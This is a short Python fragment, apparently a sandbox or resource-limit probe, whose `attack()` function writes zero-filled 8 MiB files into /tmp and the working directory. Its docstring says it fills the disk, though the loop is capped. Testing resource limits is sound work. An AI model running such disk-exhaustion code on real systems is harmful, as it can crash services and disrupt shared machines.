"""Writes files until the disk is full."""


def attack() -> bool:
    for folder in ("/tmp", "."):
        for number in range(24):
            try:
                with open(f"{folder}/{MARK}.{number}", "wb") as file:
                    file.write(bytes(8 << 20))
            except OSError:
                break
        else:
            return True
    return False
